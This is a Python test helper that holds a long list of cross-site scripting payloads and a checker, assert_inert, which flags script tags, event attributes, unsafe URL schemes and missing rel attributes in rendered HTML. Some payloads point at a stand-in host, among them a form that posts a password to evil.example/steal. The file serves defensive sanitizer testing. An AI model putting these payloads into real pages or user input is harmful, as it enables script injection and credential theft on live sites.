"""XSS payloads and an HTML inertness check, shared by every test that puts
user or lesson text on a page, a printout, a CSV or a JSON export.

    from tests.xss_payloads import PAYLOADS, assert_inert   # or: from xss_payloads import ...

``assert_inert(html)`` parses the HTML with the standard library's
``html.parser`` (which decodes entities in attribute values the way a browser
does) and fails on anything that could run script or leave the page unsafely:
script, style, iframe, object, embed, svg, math, base, meta, form and link
tags, ``on*`` event attributes, ``style`` attributes, URLs (href, src,
action, formaction, xlink:href, ...) other than http(s), mailto or relative,
and external links without ``rel="noopener noreferrer"``. Use it on HTML that
holds user or lesson text: rendered Markdown, a printout, the part of a page
where the text lands (a whole page legitimately has its own script, link and
form tags).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS: list[str] = [
    # script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    '<<script>alert("xss");//<</script>',
    "<script\n>alert(1)</script\n>",
    "</textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    # event attributes on many tags
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    "<a href=\"https://example.com\" onmouseover=alert(1)>hover</a>",
    "<div onpointerenter=alert(1)>x</div>",
    "<table background=javascript:alert(1) onmouseover=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<h1 onmouseover=alert(1)>title</h1>",
    "<sup onclick=alert(1) class=cite>1</sup>",
    "<a/href=\"https://example.com\"/onclick=alert(1)>x</a>",
    # javascript:, data: and vbscript: URLs, with case, entity and whitespace tricks
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \tjavascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    "<a href='javascript:alert(1)'>single quoted</a>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">go</button></form>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # malformed and nested tags
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=\"https://example.com\"<script>alert(1)</script>>x</a>",
    "<div <div onclick=alert(1)>>x</div>",
    "<p><b><i><u onclick=alert(1)>deep</u></i></b></p>",
    "<iframe src=javascript:alert(1)></iframe",
    "<a href=\"#\"><a href=\"javascript:alert(1)\">nested</a></a>",
    "<<a href=javascript:alert(1)>>x",
    "<img src=`x` onerror=alert(1)>",
    "<a href=\"https://example.com\" rel=\"opener\" target=\"_blank\">opener</a>",
    # entity tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a href=\"jav&#x41;script:alert(1)\">x</a>",
    "<a title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" href=\"#x\">x</a>",
    # Markdown syntax
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1) \"title\")",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "![image](javascript:alert(1))",
    "![x](https://example.com/x.png\" onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[a](https://example.com \"title\" onclick=\"alert(1)\")",
    "# Heading {: onclick=alert(1) }",
    "Paragraph with attributes\n{: onmouseover=\"alert(1)\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" }",
    "[link](https://example.com){: onclick=\"alert(1)\" href=\"javascript:alert(1)\" }",
    "*emphasis*{: onclick=alert(1) }",
    "Note[^x]\n\n[^x]: <script>alert(1)</script> [a](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    # HTML comments and CDATA
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    # frames, meta, base, object, embed, link, forms
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\"></form>",
    "<isindex action=javascript:alert(1) type=image>",
    # style-based attacks
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background-image:url(javascript:alert(1))\">x</p>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake login</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<span style=\"behavior:url(x.htc)\">x</span>",
    # misc
    "<a href=\"//evil.example\">protocol-relative</a>",
    "<a href=\"\\\\evil.example\">backslashes</a>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>unknown tag</x>",
    "<a id=\"x\" name=\"csrf_token\" href=\"#\">clobber</a>",
]

_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
    "svg", "math", "base", "meta", "form", "link", "isindex",
}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping"}
_SAFE_SCHEMES = {"http", "https", "mailto"}
_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f\s]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def _squeeze(url: str) -> str:
    # html.parser has already decoded entities in attribute values.
    return _NOISE.sub("", url).lower()


def url_is_safe(url: str) -> bool:
    """http(s), mailto, or relative (no scheme), as a browser would read it."""
    m = _SCHEME.match(_squeeze(url))
    return m is None or m.group(1) in _SAFE_SCHEMES


def _is_external(url: str) -> bool:
    squeezed = _squeeze(url).replace("\\", "/")
    return squeezed.startswith(("http:", "https:", "//"))


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        tag = tag.lower()
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> tag")
        names = {name.lower(): (value or "") for name, value in attrs}
        for name, value in names.items():
            if name.startswith("on"):
                self.problems.append(f"event attribute {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name in _URL_ATTRIBUTES and not url_is_safe(value):
                self.problems.append(f"unsafe URL {name}={value!r} on <{tag}>")
            if name == "srcdoc":
                self.problems.append(f"srcdoc on <{tag}>")
        if tag == "a" and _is_external(names.get("href", "")):
            rel = set(names.get("rel", "").lower().split())
            if not {"noopener", "noreferrer"} <= rel:
                self.problems.append(f"external link {names['href']!r} without rel=noopener noreferrer")
        if names.get("target") and tag == "a" and "noopener" not in names.get("rel", ""):
            self.problems.append("target without rel=noopener")


# Belt and braces: html.parser (before Python 3.13) reads a few malformed
# comments differently from a browser, so also look for live dangerous tags.
_RAW_TAG = re.compile(r"<\s*(script|style|iframe|object|embed|svg|math|base|meta|form|link)\b", re.IGNORECASE)


def find_problems(html: str) -> list[str]:
    """Everything unsafe in an HTML fragment (empty when it is inert)."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    problems = inspector.problems
    for m in _RAW_TAG.finditer(html):
        problem = f"<{m.group(1).lower()}> tag"
        if problem not in problems:
            problems.append(problem)
    return problems


def assert_inert(html: str) -> None:
    """Fail unless the HTML fragment can run no script and leaves the site safely."""
    problems = find_problems(html)
    assert not problems, f"unsafe HTML: {problems}\n---\n{html}"
